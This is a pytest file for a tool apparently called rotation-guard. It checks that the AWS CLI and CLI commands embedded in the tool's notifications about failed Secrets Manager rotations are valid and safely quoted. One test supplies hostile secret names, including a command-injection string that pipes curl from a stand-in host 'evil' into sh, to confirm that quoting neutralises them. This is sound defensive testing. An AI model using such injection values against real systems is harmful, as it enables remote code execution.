"""Every command in a notification exists in the AWS CLI or in rotation-guard's, with its options."""

import json
import re
import shlex
from typing import Any

import pytest
from typer.main import get_command

from rotation_guard.cli.application import build_app
from rotation_guard.domain.remediation.decisions import RULES, Action
from tests.handlers.aws_commands import check_command
from tests.handlers.remediation.transitions import (
    ARN,
    FUNCTION,
    NOT_LISTED,
    SETTLED,
    TRANSITIONS,
    decided,
    incident,
    notification,
    rate_limited,
)

VERSIONS = {"v1": ["AWSCURRENT"], "v2": ["AWSPENDING"], "v3": ["AWSPREVIOUS"]}
DENIED = "RotateSecret was refused: access denied: by its own policy (AccessDeniedException)."
ROWS = {
    **{rule.name: {"actions": [decided(rule.name)]} for rule in RULES if rule.action is Action.ESCALATE},
    "denied": {"actions": [{"action": "retry", "number": 1, "outcome": DENIED}]},
    "refused": {"actions": [{"action": "retry", "number": 1, "outcome": "RotateSecret was refused: no."}]},
    "gone": {"unreadable": "It does not exist in Secrets Manager any more.", "actions": [decided("untouchable")]},
    "forward": {"evidence": {"current": "broken", "pending": "works"}},
    "back": {"evidence": {"current": "broken", "pending": "broken", "previous": "works"}},
    "restarts": {
        "restarts": [
            {**SETTLED, "state": "failed"},
            {**SETTLED, "target": "lambda:api", "state": "failed"},
            {**SETTLED, "target": "ssm:team-restart", "state": "failed"},
            NOT_LISTED,
        ]
    },
    "no function": {"rotation_function": None},
    "test": {"event_type": "TestRotationFailed"},
    "recovered": {"outcome": "recovered by AWS", "new_value_versions": VERSIONS},
    "rolled forward": {"outcome": "rolled forward"},
}
for reason in (
    "It is marked for deletion.",
    "It is a replica: its primary is in us-east-1.",
    "It cannot be read",
):
    ROWS[reason] = {"actions": [decided("untouchable")], "reason": reason}


def row(**changes):
    return incident(**{"rotation_function": FUNCTION, "versions": VERSIONS, **changes})


def check(command):
    words = shlex.split(command)
    assert "\n" not in command
    if words[0] == "rotation-guard":
        group: Any = get_command(build_app())
        subcommand = group.commands[words[1]].commands[words[2]]
        names = {name for parameter in subcommand.params for name in parameter.opts} | {"--reason"}
        assert {word for word in words if word.startswith("--")} <= names, command
        return
    check_command(words)
    assert words[words.index("--region") + 1] == "eu-west-1"


@pytest.mark.parametrize("name", ROWS)
def test_commands_exist_with_their_options(name):
    for transition in (*TRANSITIONS, "held_burst"):
        digest = rate_limited(25) if transition == "held_burst" else ()

        message = notification(transition, row(**ROWS[name]), digest=digest)

        assert message.payload["commands"] == [
            line.strip() for line in message.text.splitlines() if re.match(" +aws | +rotation-guard ", line)
        ], transition
        for command in message.payload["commands"]:
            check(command)


def test_the_check_rejects_an_unknown_command_and_a_misspelt_option():
    for invalid in (
        "aws secretsmanager rotate-secrets --secret-id x --region eu-west-1",
        "aws secretsmanager rotate-secret --secret x --region eu-west-1",
        "aws secretsmanager rotate-secret --region eu-west-1",
        "rotation-guard incidents show x --stack-output f",
    ):
        with pytest.raises(AssertionError):
            check(invalid)


@pytest.mark.parametrize("hostile", ["x;curl evil|sh `id` $(id)", "it's", "--help", "a b", "*"])
def test_a_command_survives_a_name_that_a_shell_would_run(hostile):
    arn = f"{ARN[:-16]}{hostile}-Ab12Cd"
    changes = {"secret_name": hostile, "secret_arn": arn, "actions": [decided("orphaned")]}

    for command in notification("escalated", row(**changes)).payload["commands"]:
        words = shlex.split(command)
        if "--secret-id" in words:
            assert words[words.index("--secret-id") + 1] == arn
        if words[:3] == ["rotation-guard", "incidents", "release"]:
            assert words[3] == (arn if hostile.startswith("-") else hostile)


def test_known_ids_are_filled_in():
    [move, *_] = notification("escalated", row(evidence={"current": "broken", "pending": "works"})).payload["commands"]

    assert shlex.split(move) == [
        *("aws", "secretsmanager", "update-secret-version-stage", "--secret-id", ARN),
        *("--version-stage", "AWSCURRENT", "--move-to-version-id", "v2", "--remove-from-version-id", "v1"),
        *("--region", "eu-west-1"),
    ]


def test_the_log_is_read_from_before_the_failed_step_can_have_started():
    # 2026-03-01T00:50:20Z is 1772326220 in epoch seconds; a function runs for 15 minutes at most.
    [log] = [command for command in notification("opened", row()).payload["commands"] if " logs " in command]

    assert "--log-group-name /aws/lambda/orders-rotation" in log
    assert f"--start-time {(1772326220 - 15 * 60) * 1000}" in log


@pytest.mark.parametrize("qualifier", ["", ":live", ":7"])
def test_the_log_group_does_not_depend_on_the_alias_of_the_function(qualifier):
    payload = notification("opened", row(rotation_function=f"{FUNCTION}{qualifier}")).payload

    assert payload["log_group"] == "/aws/lambda/orders-rotation"
    assert json.dumps(payload["commands"]).count("/aws/lambda/orders-rotation ") == 1
